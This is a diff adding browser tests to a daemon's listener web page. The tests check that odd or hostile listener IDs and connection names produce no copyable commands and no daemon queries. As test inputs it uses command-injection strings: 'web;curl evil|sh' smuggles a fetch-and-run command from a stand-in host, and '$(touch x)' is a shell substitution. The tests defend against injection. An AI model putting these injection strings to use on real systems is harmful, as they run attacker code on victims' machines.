@@ -119,6 +119,65 @@ test('the daemon is asked for the kinds that are wanted only', async () => {
   });
 });
 
+const EVIL = 'web;curl evil|sh\n';
+
+test('what names no listener has no command, and nothing is asked about it', async () => {
+  daemon.listener('web', {spec: {labels: {team: 'edge'}}});
+  daemon.connections.push(connection(1));
+  for (const id of [EVIL, 'Web', '-web', '', 'web/x', 'web\n', '$(touch x)']) {
+    const place = `#listener/${encodeURIComponent(id)}`;
+    await browser.show(`${daemon.url}#listener/web`, {}, async (page) => {
+      const copies = page.locator('#listener .copy:visible');
+      // Of one that is, it knows all; nothing of that is left.
+      await page.locator('#l-open .copy').waitFor();
+      await page.locator('#l-spec', {hasText: 'team=edge'}).waitFor();
+      assert.strictEqual(await copies.count(), 4);
+      daemon.asked = [];
+      await page.evaluate((to) => { location.hash = to; }, place);
+      await page.locator('#l-state', {hasText: 'there is none'}).waitFor();
+      await until(page, () => document.querySelectorAll('#l-open tr').length === 0);
+      assert.strictEqual(await copies.count(), 0);
+      assert.strictEqual(await page.locator('#l-facts:visible').count(), 0);
+      assert.strictEqual(await page.textContent('#l-name'), '');
+      assert.strictEqual(await page.title(), 'Portreeve');
+      await page.clock.runFor(5000);
+      while (!daemon.asked.length) await new Promise(setImmediate);
+      assert.ok(daemon.asked.every((target) => target.startsWith('/events?') &&
+          !target.includes('listener=')), `${daemon.asked}`);
+      // The same where the page begins with it.
+      await page.goto('about:blank');
+      await page.goto(`${daemon.url}${place}`);
+      await page.locator('#l-state', {hasText: 'there is none'}).waitFor();
+      assert.strictEqual(await copies.count(), 0);
+      assert.ok(!(await page.content()).includes('curl'));
+    });
+  }
+});
+
+test('a name that is none of a connection goes into no command', async () => {
+  daemon.listener('web');
+  daemon.connections.push(connection(1, {name: `connections/${EVIL}`}), connection(2));
+  await browser.show(`${daemon.url}#listener/web`, {}, async (page) => {
+    await page.locator('#l-page', {hasText: '2 open'}).waitFor();
+    const copies = page.locator('#l-open .copy:visible');
+    assert.deepStrictEqual(await copies.evaluateAll(
+        (buttons) => buttons.map((button) => button.title)),
+    ['Copy: portreeve kill connections/c2']);
+    assert.ok(!(await page.content()).includes('kill connections/web'));
+  });
+});
+
+test('how long a connection has lived is a matter of the daemon’s clock', async () => {
+  daemon.listener('web');
+  daemon.connections.push(connection(1));
+  await browser.show(`${daemon.url}#listener/web`, {}, async (page) => {
+    await page.clock.setFixedTime(NOW + 86400000);
+    daemon.time += 1000;
+    daemon.tick();
+    await page.locator('#l-open td', {hasText: '1 min 2 s'}).waitFor();
+  });
+});
+
 test('one listener: what it is, its connections, and the commands for it', async () => {
   daemon.listener('web', {
     spec: {handler: {forward: {upstream: {unixSocket: {path: '\0app'}}}}},
